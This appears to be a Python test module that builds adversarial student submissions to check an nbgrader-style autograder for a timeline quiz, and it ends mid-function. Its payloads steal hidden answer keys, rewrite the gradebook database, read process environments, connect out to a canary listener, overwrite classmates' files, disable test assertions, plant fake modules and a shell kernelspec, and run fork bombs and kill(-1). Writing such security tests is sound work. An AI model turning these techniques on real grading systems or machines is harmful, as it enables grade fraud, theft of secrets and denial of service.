"""Crafted submissions for the adversarial autograde suite: one :class:`Case` per attack.

Every case is a student of the timeline quiz whose hand-in (the notebook's bytes and any extra
files next to it) is built from the released notebook by a small function. The attack code runs
in the student's kernel; it prints ``HOMS-ADV-SUCCESS ...`` whenever it gets something it should
not (a key, a file, a connection), and every file it manages to write holds ``PWNED:<student>``,
so a test can tell from the autograded notebook and the course folder whether it got anywhere.

An attacker here is as strong as we can make it: it knows the absolute path of the course and the
names of the other students (:class:`Context`). The attacks that could hurt the machine running
the suite (a fork bomb, ``kill(-1)``) check first that they run as an unprivileged user in a PID
namespace other than the grader's, and do nothing otherwise; they are also left out of the class
when bubblewrap cannot isolate the kernels, and never run against stock nbgrader.
"""

from __future__ import annotations

import copy
import json
import os
import uuid
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from helpers import TIMELINE_PARTLY_RIGHT, answered, grade_id, index_of
from homs import grading

__all__ = [
    "CASES",
    "HONEST",
    "ITEMS",
    "POINTS",
    "SUCCESS",
    "Case",
    "Context",
    "Submission",
    "case",
    "fill",
    "honest_submission",
    "simulated_release",
]

# The timeline quiz's autograded items and their points (written out, not read from homs).
POINTS: dict[str, float] = {
    "q1_order": 5,
    "q2_colvin_date": 1,
    "q3_amos_year": 1,
    "q4_siege_length": 1,
    "q5_years_to_judgement": 1,
    "q6_days_to_amos": 1,
    "q7_siege_sources": 1,
    "q8_killing_sources": 1,
}
ITEMS = tuple(POINTS)
SUCCESS = "HOMS-ADV-SUCCESS"
QUIZ = "timeline"

# Right answers as a student types them (checked against the key by the fast tests).
RIGHT = {
    "q1_order": 'answer_q1_order = ["clock-tower-square", "armored-vehicles-arrive", '
    '"colvin-ochlik-killed", "amos-visit", "old-city-evacuation", "waer-retaken"]',
    "q2_colvin_date": 'answer_q2_colvin_date = "2012-02-22"',
    "q3_amos_year": "answer_q3_amos_year = 2012",
    "q4_siege_length": "answer_q4_siege_length = 2",
    "q5_years_to_judgement": "answer_q5_years_to_judgement = 7",
    "q6_days_to_amos": "answer_q6_days_to_amos = 15",
    "q7_siege_sources": 'answer_q7_siege_sources = ["B", "C"]',
    "q8_killing_sources": 'answer_q8_killing_sources = ["A", "B"]',
}
# The partly right hand-in shared with the grading tests: 4+0+1+1+0+0+1+0.
PARTIAL = TIMELINE_PARTLY_RIGHT
# A valid order that is all wrong (reversed): 0 of 5 points.
REVERSED_ORDER = (
    'answer_q1_order = ["waer-retaken", "old-city-evacuation", "amos-visit", '
    '"colvin-ochlik-killed", "armored-vehicles-arrive", "clock-tower-square"]'
)


def scores(**given: float) -> dict[str, float]:
    """Per-item scores: the ones given, zero for the rest."""
    unknown = set(given) - set(POINTS)
    if unknown:
        raise KeyError(f"not timeline items: {sorted(unknown)}")
    return {item: float(given.get(item, 0)) for item in ITEMS}


FULL = scores(**POINTS)
NOTHING = scores()
HONEST: dict[str, dict[str, float]] = {
    "honest_all_right": FULL,
    "honest_partial": scores(q1_order=3, q3_amos_year=1, q4_siege_length=1, q7_siege_sources=1),
}


@dataclass(frozen=True)
class Context:
    """What an attacker is assumed to know when its notebook is crafted.

    Attributes:
        release: The released timeline notebook, as JSON.
        course: The absolute path of the course root.
        canary_hosts: Addresses of a TCP listener run by the test (any connection is a leak).
        canary_port: Its port.
        secret: A value the test puts in the grader's environment as ``HOMS_ADV_SECRET``.
        pid_namespace: The grader's PID namespace (``/proc/self/ns/pid``): the dangerous
            attacks only run in another one.
    """

    release: Mapping[str, Any]
    course: Path
    canary_hosts: tuple[str, ...] = ("127.0.0.1",)
    canary_port: int = 9
    secret: str = "HOMS-ADV-CANARY-unset"
    pid_namespace: str = field(default_factory=lambda: os.readlink("/proc/self/ns/pid"))


@dataclass(frozen=True)
class Submission:
    """A hand-in: the notebook file's bytes and extra files (path relative to the quiz folder)."""

    notebook: bytes
    files: Mapping[str, bytes] = field(default_factory=dict)


@dataclass(frozen=True)
class Case:
    """One crafted submission and what the grader must make of it.

    Attributes:
        student: The student id (also the folder name).
        description: One sentence: what the student does.
        craft: Builds the hand-in from what the attacker knows and its student id.
        deserved: Per item, the most the student's literal answers deserve.
        exact: The score must be exactly ``deserved`` (correct work must not lose points).
        tampered: The status or notes must mention one of these words (case-insensitive), so
            the teacher sees what was tampered with; empty when nothing needs saying.
        kernel_inflates: The trick works inside any kernel, sandboxed or not: the executed
            notebook scores more than the verdict, and the grader must flag the mismatch.
        escapes: The attack needs to get out of the sandbox (files, environment, network,
            processes outside its own); it must not print ``HOMS-ADV-SUCCESS`` when isolated.
        unreadable: The file is not a readable notebook: no item can be graded.
        needs_isolation: Only run when the sandbox isolates the kernel.
        stock: Run it against stock nbgrader too (False when it could hurt the machine).
    """

    student: str
    description: str
    craft: Callable[[Context, str], Submission]
    deserved: Mapping[str, float] = field(default_factory=lambda: dict(NOTHING))
    exact: bool = False
    tampered: tuple[str, ...] = ()
    kernel_inflates: bool = False
    escapes: bool = False
    unreadable: bool = False
    needs_isolation: bool = False
    stock: bool = True


# ---------------------------------------------------------------------------------------------
# Notebook helpers
# ---------------------------------------------------------------------------------------------


def dump(nb: Any) -> bytes:
    """A notebook's bytes as JupyterLab writes them."""
    return (json.dumps(nb, indent=1, ensure_ascii=False) + "\n").encode("utf-8")


def new_code(source: str, **nbgrader: Any) -> dict[str, Any]:
    """A fresh code cell (with nbgrader metadata if given)."""
    meta: dict[str, Any] = {"nbgrader": dict(nbgrader)} if nbgrader else {}
    return {
        "cell_type": "code",
        "execution_count": None,
        "id": uuid.uuid4().hex[:8],
        "metadata": meta,
        "outputs": [],
        "source": source,
    }


def simulated_release(source: Mapping[str, Any]) -> dict[str, Any]:
    """What ``nbgrader generate_assignment`` makes of a source notebook, near enough for the
    fast tests: stubs for solutions, no hidden tests."""
    nb = copy.deepcopy(dict(source))
    for cell in nb["cells"]:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        text = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
        if meta.get("solution") and cell["cell_type"] == "code":
            item_id = meta["grade_id"].removesuffix("_answer")
            text = f"answer_{item_id} = (\n    ...  # YOUR ANSWER HERE\n)"
        if meta.get("grade") and "### BEGIN HIDDEN TESTS" in text:
            text = text.split("### BEGIN HIDDEN TESTS")[0]
        cell["source"] = text
    return nb


def fill(code: str, ctx: Context, student: str) -> str:
    """Puts what the attacker knows into its code (``@COURSE@`` etc., as Python literals)."""
    course = str(ctx.course)
    values = {
        "@COURSE@": repr(course),
        "@ME@": repr(student),
        "@PWNED@": repr(f"PWNED:{student}"),
        "@SUCCESS@": repr(SUCCESS),
        "@HOSTS@": repr(tuple(ctx.canary_hosts)),
        "@PORT@": repr(ctx.canary_port),
        "@HONEST@": repr(tuple(HONEST)),
        "@QUIZ@": repr(QUIZ),
        "@PIDNS@": repr(ctx.pid_namespace),
    }
    for name, value in values.items():
        code = code.replace(name, value)
    return code


def blank(ctx: Context) -> dict[str, Any]:
    """An untouched copy of the release."""
    return copy.deepcopy(dict(ctx.release))


def attack_in_q1(
    code: str,
    *,
    answers: Mapping[str, str] | None = None,
    q1: str = "answer_q1_order = (\n    ...  # YOUR ANSWER HERE\n)",
) -> Callable[[Context, str], Submission]:
    """A hand-in whose Q1 answer cell runs ``code`` before its own answer (blank by default)."""

    def build(ctx: Context, student: str) -> Submission:
        nb = answered(ctx.release, dict(answers or {}))
        cell = nb["cells"][index_of(nb, "q1_order_answer")]
        cell["source"] = fill(code, ctx, student).rstrip() + "\n\n" + q1
        return Submission(dump(nb))

    return build


# ---------------------------------------------------------------------------------------------
# Kernel-side code shared by the attacks
# ---------------------------------------------------------------------------------------------

# Extracts the keys from hidden test cells (the source notebook, the gradebook or the history)
# and, before every later cell, puts them into the answer variables.
STEAL = r"""
import ast as _ast, json as _json, os as _os, re as _re, sys as _sys
from pathlib import Path as _Path

def _keys_in(sources):
    found = {}
    for src in sources:
        var = _re.search(r'"(answer_\w+)"', src)  # check("Q1", "answer_q1_order", ...)
        key = _re.search(r'^_key = (.*)$', src, _re.M)
        if var and key:
            found[var.group(1)] = _ast.literal_eval(key.group(1))
    return found

def _use(found, how):
    if not found:
        return False
    print(@SUCCESS@, "keys", sorted(found), "from", how)
    get_ipython().events.register("pre_run_cell", lambda info: globals().update(found))
    return True

def _notebook_keys(path):
    with open(path, encoding="utf-8") as f:
        cells = _json.load(f)["cells"]
    return _keys_in("".join(c["source"]) if isinstance(c["source"], list) else c["source"]
                    for c in cells)

def _parents():
    here = _Path.cwd().resolve()
    return [here, *here.parents]
"""

KEY_RELATIVE = (
    STEAL
    + r"""
for _p in ("../../../source/timeline/timeline.ipynb", "../../source/timeline/timeline.ipynb",
           "../source/timeline/timeline.ipynb", "source/timeline/timeline.ipynb"):
    try:
        if _use(_notebook_keys(_p), _p):
            break
    except Exception as _e:
        print("no key at", _p, type(_e).__name__)
"""
)

KEY_ABSOLUTE = (
    STEAL
    + r"""
_candidates = [_Path(@COURSE@) / "source/timeline/timeline.ipynb"]
_candidates += [p / "source/timeline/timeline.ipynb" for p in _parents()]
_candidates += [p / "quizzes/source/timeline/timeline.ipynb" for p in _parents()]
_candidates += [_Path(_sys.executable).parents[2] / "quizzes/source/timeline/timeline.ipynb"]
for _p in _candidates:
    try:
        if _use(_notebook_keys(_p), str(_p)):
            break
    except Exception as _e:
        print("no key at", _p, type(_e).__name__)
"""
)

KEY_HOMS = (
    STEAL
    + r"""
try:
    from homs import grading as _g
    _q = _g.load_quiz("timeline")
    _use({i.variable: i.key for i in _q.items if not i.written}, "the homs package")
except Exception as _e:
    print("no homs package:", type(_e).__name__, _e)
for _d in _sys.path:
    for _rel in ("homs/grading/authoring/specs/timeline.yaml", "homs/data/events.yaml"):
        _f = _Path(_d or ".") / _rel
        try:
            _f.read_bytes()
            print(@SUCCESS@, "read", _f)
        except OSError:
            pass
"""
)

GRADEBOOK_READ = (
    STEAL
    + r"""
import sqlite3 as _sqlite3
_dbs = [_Path(@COURSE@) / "gradebook.db", _Path("../../../gradebook.db")]
_dbs += [p / "gradebook.db" for p in _parents()]
for _db in _dbs:
    try:
        _con = _sqlite3.connect(f"file:{_db}?mode=ro", uri=True, timeout=2)
        _rows = _con.execute("SELECT source FROM source_cell").fetchall()
        _con.close()
    except Exception as _e:
        print("no gradebook at", _db, type(_e).__name__)
        continue
    print(@SUCCESS@, "opened", _db)
    if _use(_keys_in(r[0] for r in _rows), str(_db)):
        break
"""
)

GRADEBOOK_WRITE = r"""
import sqlite3
from pathlib import Path
here = Path.cwd().resolve()
for db in [Path(@COURSE@) / "gradebook.db", Path("../../../gradebook.db"),
           *(p / "gradebook.db" for p in [here, *here.parents])]:
    try:
        if not db.is_file():
            raise FileNotFoundError(db)
        con = sqlite3.connect(str(db), timeout=5)
        con.execute("UPDATE grade SET extra_credit = 100, manual_score = 100")
        con.execute("UPDATE grade_cells SET max_score = 1000")
        con.execute("INSERT INTO student (id, first_name) VALUES (?, ?)", (@PWNED@, @PWNED@))
        con.execute("CREATE TABLE IF NOT EXISTS pwned (who TEXT)")
        con.execute("INSERT INTO pwned VALUES (?)", (@PWNED@,))
        con.commit()
        con.close()
        print(@SUCCESS@, "wrote into", db)
        break
    except Exception as e:
        print("cannot write", db, type(e).__name__, e)
"""

ENVIRONMENT = (
    STEAL
    + r"""
import glob
print("environment:", dict(_os.environ))
if "HOMS_ADV_SECRET" in _os.environ:
    print(@SUCCESS@, "secret", _os.environ["HOMS_ADV_SECRET"])
    _use({"answer_q2_colvin_date": "2012-02-22"}, "the grader's environment")
for _p in glob.glob("/proc/[0-9]*/environ"):
    try:
        with open(_p, "rb") as _f:
            _data = _f.read()
    except OSError:
        continue
    if b"HOMS_ADV_SECRET" in _data:
        print(@SUCCESS@, "grader environment in", _p, _data.decode("utf-8", "replace"))
"""
)

NETWORK = r"""
import socket
for host in @HOSTS@:
    try:
        with socket.create_connection((host, @PORT@), timeout=3) as s:
            s.sendall(@PWNED@.encode())
        print(@SUCCESS@, "connected to", host)
    except OSError as e:
        print("no connection to", host, type(e).__name__, e)
"""

WRITE_OTHERS = r"""
from pathlib import Path
course = Path(@COURSE@)
targets = []
for other in @HONEST@:
    targets += [course / "submitted" / other / "timeline" / "timeline.ipynb",
                Path("../..") / other / "timeline" / "timeline.ipynb",
                course / "autograded" / other / "timeline" / "timeline.ipynb"]
targets += [course / "source" / "timeline" / "timeline.ipynb",
            course / "release" / "timeline" / "timeline.ipynb",
            course / "nbgrader_config.py", Path("../../../nbgrader_config.py"),
            Path("../../../source/timeline/timeline.ipynb")]
for target in targets:
    try:
        if not target.is_file():
            raise FileNotFoundError(target)
        with open(target, "a", encoding="utf-8") as f:
            f.write("\n# " + @PWNED@ + "\n")
        print(@SUCCESS@, "appended to", target)
    except OSError as e:
        print("cannot write", target, type(e).__name__)
if not (course / "nbgrader_config.py").is_file():
    print("the course is not visible from here:", course)
for new in [course / ("PWNED-" + @ME@ + ".txt"),
            course / "submitted" / ("PWNED-" + @ME@) / "timeline" / "timeline.ipynb",
            course / "source" / "timeline" / ("PWNED-" + @ME@ + ".py"),
            Path("../..") / ("PWNED-" + @ME@) / "timeline" / "timeline.ipynb"]:
    try:
        if not (course / "nbgrader_config.py").is_file():
            break  # a private /tmp may show the course's path, but not the course
        new.parent.mkdir(parents=True, exist_ok=True)
        new.write_text(@PWNED@)
        print(@SUCCESS@, "created", new)
    except OSError as e:
        print("cannot create", new, type(e).__name__)
"""

SELF_REWRITE = (
    STEAL
    + r"""
_course = _Path(@COURSE@)
_theirs = None
for _p in [_course / "submitted" / "honest_all_right" / "timeline" / "timeline.ipynb",
           _Path("../../honest_all_right/timeline/timeline.ipynb")]:
    try:
        _theirs = _p.read_bytes()
        print(@SUCCESS@, "read a classmate's notebook", _p)
        break
    except OSError as _e:
        print("cannot read", _p, type(_e).__name__)
if _theirs is not None:
    _mine = [_Path("timeline.ipynb"), _course / "submitted" / @ME@ / "timeline" / "timeline.ipynb"]
    for _p in _mine:
        try:
            _p.write_bytes(_theirs.replace(b'"metadata": {', b'"metadata": {"pwned": ' +
                                           _json.dumps(@PWNED@).encode() + b', ', 1))
            print(@SUCCESS@, "rewrote my own hand-in", _p)
        except OSError as _e:
            print("cannot rewrite", _p, type(_e).__name__)
    _answers = {}
    for _cell in _json.loads(_theirs)["cells"]:
        _src = "".join(_cell["source"]) if isinstance(_cell["source"], list) else _cell["source"]
        for _line in _src.splitlines():
            _m = _re.match(r"(answer_\w+) = (.+)$", _line)
            if _m:
                try:
                    _answers[_m.group(1)] = _ast.literal_eval(_m.group(2))
                except Exception:
                    pass
    _use(_answers, "a classmate's notebook")
"""
)

READ_HISTORY_HOOK = (
    STEAL
    + r"""
def _pre(info):
    # The test cell about to run holds its hidden key: take it before the cell runs.
    found = _keys_in([info.raw_cell])
    if found:
        globals().update(found)
get_ipython().events.register("pre_run_cell", _pre)
"""
)

# The last cell: every test cell that ran is in the history (In / _ih); write the keys found
# there into my own notebook file, in case the grader reads the answers after running it.
READ_HISTORY_FINAL = r"""
import json, re, ast
from pathlib import Path
keys = {}
for src in list(In) + list(_ih) + [In[-1]]:
    var = re.search(r'"(answer_\w+)"', src)  # check("Q1", "answer_q1_order", ...)
    key = re.search(r'^_key = (.*)$', src, re.M)
    if var and key:
        keys[var.group(1)] = ast.literal_eval(key.group(1))
print("keys in the history:", keys)  # in-kernel: the hidden tests ran in this kernel
mine = Path(@COURSE@) / "submitted" / @ME@ / "timeline" / "timeline.ipynb"
for path in [Path("timeline.ipynb"), mine]:
    try:
        nb = json.loads(path.read_text("utf-8"))
        for cell in nb["cells"]:
            gid = cell["metadata"].get("nbgrader", {}).get("grade_id", "")
            if gid.endswith("_answer") and "answer_" + gid[:-7] in keys:
                cell["source"] = "answer_" + gid[:-7] + " = " + repr(keys["answer_" + gid[:-7]])
        nb["metadata"]["pwned"] = @PWNED@
        path.write_text(json.dumps(nb), "utf-8")
        print(@SUCCESS@, "rewrote", path)
    except Exception as e:
        print("cannot rewrite", path, type(e).__name__)
"""

AST_ASSERT_TO_PASS = r"""
import ast
class _NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
    def visit_Raise(self, node):  # the checks raise Problem(...) rather than assert
        return ast.Pass()
get_ipython().ast_transformers.append(_NoAsserts())
"""

AST_EMPTY_TESTS = r"""
import ast
class _NoTests(ast.NodeTransformer):
    def visit_Module(self, node):
        doc = ast.get_docstring(node) or ""
        if doc.startswith("Q") and "checks the form" in doc:
            node.body = [ast.Pass()]
        return node
get_ipython().ast_transformers.append(_NoTests())
"""

INPUT_TRANSFORMER = r'''
def _skip_tests(lines):
    if lines and lines[0].startswith('"""Q') and "checks the form" in lines[0]:
        return ["pass\n"]
    return lines
get_ipython().input_transformers_cleanup.append(_skip_tests)
'''

CUSTOM_EXC = r"""
get_ipython().set_custom_exc((Exception,), lambda shell, etype, value, tb, tb_offset=None: None)
"""

SPOOF_HOOK = r"""
ip = get_ipython()
ip.set_custom_exc((Exception,), lambda shell, etype, value, tb, tb_offset=None: None)
# every number a cell returns is shown as 5: nbgrader reads it as the partial credit
ip.display_formatter.formatters["text/plain"].for_type(int, lambda obj, p, cycle: p.text("5"))
"""

SPOOF_ANSWER = r"""
print(5)
print("5.0")
"""

BUILTINS = r"""
import builtins, sys
_max, _all = builtins.max, builtins.all

def max(*args, **kwargs):  # noqa: A001
    # In the notebook's own code (the test cells), the ordered-run score becomes the full 5.
    if sys._getframe(1).f_globals.get("__name__") == "__main__":
        return 6
    return _max(*args, **kwargs)

def all(iterable):  # noqa: A001
    if sys._getframe(1).f_globals.get("__name__") == "__main__":
        return True
    return _all(iterable)

builtins.max, builtins.all = max, all
"""

MODULE_PATCH = r'''
from IPython.core import interactiveshell
_transform = interactiveshell.InteractiveShell.transform_cell
def transform_cell(self, raw_cell):
    if raw_cell.startswith('"""Q') and "checks the form" in raw_cell.splitlines()[0]:
        return "pass\n"
    return _transform(self, raw_cell)
interactiveshell.InteractiveShell.transform_cell = transform_cell
import ast
ast.literal_eval = lambda *a, **k: [1, 2, 3]  # in case the grader reads answers in this process
'''

STDERR_ANSWER = r"""import sys, warnings, logging
print("checking my dates...", file=sys.stderr)
warnings.warn("this is only a note to myself")
logging.getLogger("me").error("logging to stderr is fine too")
"""

STDERR_HOOK = r"""import sys
# a student's habit: log every cell run to stderr
get_ipython().events.register("post_run_cell", lambda result: print("ran a cell", file=sys.stderr))
"""

OS_EXIT = "import os\nos._exit(0)\n"
SIGKILL_SELF = "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n"
KILL_PARENT = (
    "import os, signal\nprint('killing my parent', os.getppid())\n"
    "os.kill(os.getppid(), signal.SIGKILL)\n"
)
INFINITE_LOOP = r"""import signal, time
signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
_end = time.monotonic() + 300   # bounded, so nothing runs forever even without a grader limit
while time.monotonic() < _end:
    pass
"""
MEMORY_BOMB = r"""hog = []
for _ in range(30):                       # 3 GiB at most, touched, so it is real memory
    hog.append(b"\x01" * (100 << 20))
print("allocated", len(hog) * 100, "MiB")
"""
# Only as an unprivileged user in a PID namespace other than the grader's (the sandbox); anywhere
# else (stock nbgrader, or a grader without bubblewrap) it does nothing.
SANDBOX_GUARD = r"""import os
def _sandboxed():
    try:
        namespace = os.readlink("/proc/self/ns/pid")
    except OSError:
        return False
    return os.getuid() != 0 and namespace != @PIDNS@
"""
FORK_BOMB = (
    SANDBOX_GUARD
    + r"""import time
children = 0
if _sandboxed():
    for _ in range(1000):                   # bounded: more than any process limit, no more
        try:
            pid = os.fork()
        except OSError as e:
            print("fork failed after", children, "children:", e)
            break
        if pid == 0:
            time.sleep(30)
            os._exit(0)
        children += 1
    print("children:", children)
else:
    print("not in a sandbox: the fork bomb stays off")
"""
)
KILL_ALL = (
    SANDBOX_GUARD
    + r"""import signal
if _sandboxed():
    os.kill(-1, signal.SIGKILL)             # every process this user may signal
else:
    print("not in a sandbox: kill(-1) stays off")
"""
)
OUTPUT_FLOOD = "for i in range(1_000_000):\n    print(i)\n"

FAKE_NUMPY = r'''"""Not numpy."""
print("HOMS-ADV-FAKE fake numpy imported")
import ast
class _NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
    def visit_Raise(self, node):  # the checks raise Problem(...) rather than assert
        return ast.Pass()
try:
    get_ipython().ast_transformers.append(_NoAsserts())
except NameError:
    import IPython
    IPython.get_ipython().ast_transformers.append(_NoAsserts())
int64 = int
'''


def _marker_module(ctx: Context, student: str, what: str, then: str = "") -> bytes:
    """A module that leaves a PWNED file in the course (if it can) and says where it ran."""
    code = r"""import builtins, os, sys
_msg = @PWNED@ + " @WHAT@ ran in pid %d: %r" % (os.getpid(), sys.argv[:4])
for _p in (os.path.join(@COURSE@, "PWNED-" + @ME@ + "-%d.txt" % os.getpid()),
           "PWNED-" + @ME@ + "-%d.txt" % os.getpid()):
    try:
        with open(_p, "w") as _f:
            _f.write(_msg)
    except OSError:
        pass
builtins.max = lambda *args, **kwargs: 6
""".replace("@WHAT@", what)
    return (fill(code, ctx, student) + then).encode()


# ---------------------------------------------------------------------------------------------
# The cases
# ---------------------------------------------------------------------------------------------


def _deleted(ctx: Context, student: str) -> Submission:
    nb = answered(ctx.release, RIGHT)
    for name in (
        "q2_colvin_date_answer",
        "q3_amos_year",
        "q4_siege_length_answer",
        "q4_siege_length",
    ):
        del nb["cells"][index_of(nb, name)]
    return Submission(dump(nb))


def _copied_test(ctx: Context, student: str) -> Submission:
    nb = answered(ctx.release, {"q3_amos_year": RIGHT["q3_amos_year"]})
    pasted = copy.deepcopy(nb["cells"][index_of(nb, "q2_colvin_date")])
    pasted["id"] = uuid.uuid4().hex[:8]
    nb["cells"].insert(1, pasted)  # a copy of a test cell at the top
    return Submission(dump(nb))


def _copied_answer(ctx: Context, student: str) -> Submission:
    nb = answered(ctx.release, RIGHT)
    at = index_of(nb, "q5_years_to_judgement_answer")
    pasted = copy.deepcopy(nb["cells"][at])
    pasted["id"] = uuid.uuid4().hex[:8]
    pasted["source"] = "answer_q5_years_to_judgement = 5"
    nb["cells"].insert(at + 1, pasted)
    return Submission(dump(nb))


def _reordered(ctx: Context, student: str) -> Submission:
    nb = answered(ctx.release, RIGHT)
    blocks = []
    for item in ITEMS:  # each item as question, test, answer: the test runs before the answer
        blocks.append(
            [
                nb["cells"][index_of(nb, name)]
                for name in (f"{item}_question", item, f"{item}_answer")
            ]
        )
    used = [index_of(nb, c) for b in blocks for c in (grade_id(x) for x in b)]
    first, last = min(used), max(used)
    nb["cells"] = (
        nb["cells"][:first] + [c for b in reversed(blocks) for c in b] + nb["cells"][last + 1 :]
    )
    return Submission(dump(nb))


def _tests_to_markdown(ctx: Context, student: str) -> Submission:
    nb = blank(ctx)
    for item in ITEMS:
        cell = nb["cells"][index_of(nb, item)]
        cell["cell_type"] = "markdown"
        cell.pop("outputs", None)
        cell.pop("execution_count", None)
    return Submission(dump(nb))


def _answer_to_markdown(ctx: Context, student: str) -> Submission:
    nb = answered(
        ctx.release,
        {"q3_amos_year": RIGHT["q3_amos_year"], "q2_colvin_date": RIGHT["q2_colvin_date"]},
    )
    cell = nb["cells"][index_of(nb, "q2_colvin_date_answer")]
    cell["cell_type"] = "markdown"
    cell.pop("outputs", None)
    cell.pop("execution_count", None)
    return Submission(dump(nb))


def _markdown_to_code(ctx: Context, student: str) -> Submission:
    nb = blank(ctx)
    intro = nb["cells"][0]
    intro.update(cell_type="code", execution_count=None, outputs=[], source=CUSTOM_EXC.strip())
    question = nb["cells"][index_of(nb, "q1_order_question")]
    question.update(
        cell_type="code", execution_count=None, outputs=[], source=AST_ASSERT_TO_PASS.strip()
    )
    return Submission(dump(nb))


def _relabelled(ctx: Context, student: str) -> Submission:
    nb = blank(ctx)
    a, b = index_of(nb, "q2_colvin_date"), index_of(nb, "q3_amos_year")
    meta_a = nb["cells"][a]["metadata"]["nbgrader"]
    meta_b = nb["cells"][b]["metadata"]["nbgrader"]
    meta_a["grade_id"], meta_b["grade_id"] = meta_b["grade_id"], meta_a["grade_id"]
    for at in (a, b):
        nb["cells"][at]["source"] = "pass"
    q4 = nb["cells"][index_of(nb, "q4_siege_length")]
    q4["metadata"]["nbgrader"]["grade_id"] = "q4_siege_length_renamed"
    q4["source"] = "pass"
    q5 = nb["cells"][index_of(nb, "q5_years_to_judgement_answer")]
    q5["metadata"]["nbgrader"]["grade_id"] = "q5_years_to_judgement"  # answer cell as test
    q5["metadata"]["nbgrader"].update(grade=True, points=1)
    return Submission(dump(nb))


def _points(ctx: Context, student: str) -> Submission:
    nb = answered(ctx.release, {**RIGHT, "q1_order": PARTIAL["q1_order"]})
    for item, points in (("q1_order", 500), ("q2_colvin_date", 100), ("q3_amos_year", 0)):
        nb["cells"][index_of(nb, item)]["metadata"]["nbgrader"]["points"] = points
    return Submission(dump(nb))


def _grade_flags(ctx: Context, student: str) -> Submission:
    nb = blank(ctx)
    for item in ITEMS[1:]:  # tests become unlocked, ungraded answer cells; the student empties
        cell = nb["cells"][index_of(nb, item)]
        cell["metadata"]["nbgrader"].update(grade=False, solution=True, locked=False)
        cell["metadata"].pop("editable", None)
        cell["source"] = "pass"
    q1 = nb["cells"][index_of(nb, "q1_order_answer")]
    q1["metadata"]["nbgrader"].update(grade=True, points=50)  # the answer cell as a graded cell
    return Submission(dump(nb))


def _schema(ctx: Context, student: str) -> Submission:
    nb = answered(ctx.release, {"q3_amos_year": RIGHT["q3_amos_year"]})
    for cell, version in zip(nb["cells"], (1, 99, 2, 0, "3", None), strict=False):
        if "nbgrader" in cell["metadata"]:
            cell["metadata"]["nbgrader"]["schema_version"] = version
    nb["cells"][index_of(nb, "q2_colvin_date")]["metadata"]["nbgrader"]["schema_version"] = 1
    return Submission(dump(nb))


def _extra_graded(ctx: Context, student: str) -> Submission:
    nb = answered(ctx.release, {"q3_amos_year": RIGHT["q3_amos_year"]})
    nb["cells"].insert(
        3,
        new_code(
            "pass",
            grade=True,
            solution=False,
            locked=True,
            points=100,
            grade_id="bonus_points",
            schema_version=3,
        ),
    )
    essay = {
        "cell_type": "markdown",
        "id": uuid.uuid4().hex[:8],
        "source": "I deserve it.",
        "metadata": {
            "nbgrader": {
                "grade": True,
                "solution": True,
                "locked": False,
                "points": 50,
                "grade_id": "bonus_essay",
                "schema_version": 3,
            }
        },
    }
    nb["cells"].append(essay)
    nb["cells"].append(
        new_code(
            "print(5)",
            grade=True,
            solution=True,
            locked=False,
            points=7,
            grade_id="q9_extra",
            schema_version=3,
        )
    )
    return Submission(dump(nb))


def _kernelspec(ctx: Context, student: str) -> Submission:
    nb = answered(ctx.release, {"q3_amos_year": RIGHT["q3_amos_year"]})
    nb["metadata"]["kernelspec"] = {
        "name": "pwned-kernel",
        "display_name": "Python 3 (evil)",
        "language": "python",
        "argv": ["/bin/sh", "-c", "touch /tmp/PWNED-kernelspec"],
    }
    nb["metadata"]["language_info"] = {"name": "bash"}
    return Submission(dump(nb))


def _fake_numpy(ctx: Context, student: str) -> Submission:
    nb = answered(ctx.release, {"q1_order": "import numpy  # my helper\n\n" + REVERSED_ORDER})
    return Submission(dump(nb), {"numpy.py": FAKE_NUMPY.encode()})


def _fake_homs(ctx: Context, student: str) -> Submission:
    nb = answered(ctx.release, {"q3_amos_year": RIGHT["q3_amos_year"]})
    give_all = (
        "\n\ndef grade_notebook(nb, quiz):\n    raise SystemExit('PWNED')\n"
        "def autograde(*args, **kwargs):\n    raise SystemExit('PWNED')\n"
    )
    return Submission(
        dump(nb),
        {
            "homs/__init__.py": _marker_module(ctx, student, "fake homs"),
            "homs/grading/__init__.py": _marker_module(ctx, student, "fake homs.grading", give_all),
            "nbformat.py": _marker_module(ctx, student, "fake nbformat"),
            "nbclient.py": _marker_module(ctx, student, "fake nbclient"),
        },
    )


def _sitecustomize(ctx: Context, student: str) -> Submission:
    nb = answered(ctx.release, {"q1_order": REVERSED_ORDER})
    return Submission(
        dump(nb),
        {
            "sitecustomize.py": _marker_module(ctx, student, "sitecustomize"),
            "usercustomize.py": _marker_module(ctx, student, "usercustomize"),
            ".ipython/profile_default/startup/00-pwn.py": _marker_module(ctx, student, "startup"),
        },
    )


def _fake_launcher(ctx: Context, student: str) -> Submission:
    nb = answered(ctx.release, {"q1_order": REVERSED_ORDER})
    then = (
        "\nprint('HOMS-ADV-SUCCESS fake ipykernel_launcher')\n"
        "from ipykernel import kernelapp as app\napp.launch_new_instance()\n"
    )
    return Submission(
        dump(nb),
        {
            "ipykernel_launcher.py": _marker_module(ctx, student, "fake ipykernel_launcher", then),
        },
    )


def _truncated(ctx: Context, student: str) -> Submission:
    data = dump(answered(ctx.release, RIGHT))
    return Submission(data[: len(data) * 3 // 5])


def _non_utf8(ctx: Context, student: str) -> Submission:
    nb = answered(ctx.release, RIGHT)
    nb["cells"][0]["source"] = "Caf\u00e9 notes, ma\u00f1ana: \u00bfqu\u00e9?"
    return Submission(json.dumps(nb, indent=1, ensure_ascii=False).encode("latin-1", "replace"))


def _nbformat5(ctx: Context, student: str) -> Submission:
    nb = answered(ctx.release, RIGHT)
    nb["nbformat"], nb["nbformat_minor"] = 5, 0
    return Submission(dump(nb))


def _prefilled(ctx: Context, student: str) -> Submission:
    nb = answered(ctx.release, {"q1_order": OS_EXIT + "\n" + REVERSED_ORDER})
    for n, item in enumerate(ITEMS, start=1):
        cell = nb["cells"][index_of(nb, item)]
        cell["execution_count"] = n
        cell["outputs"] = [
            {
                "output_type": "execute_result",
                "execution_count": n,
                "metadata": {},
                "data": {"text/plain": str(POINTS[item])},
            }
        ]
    return Submission(dump(nb))


def _literal_bombs(ctx: Context, student: str) -> Submission:
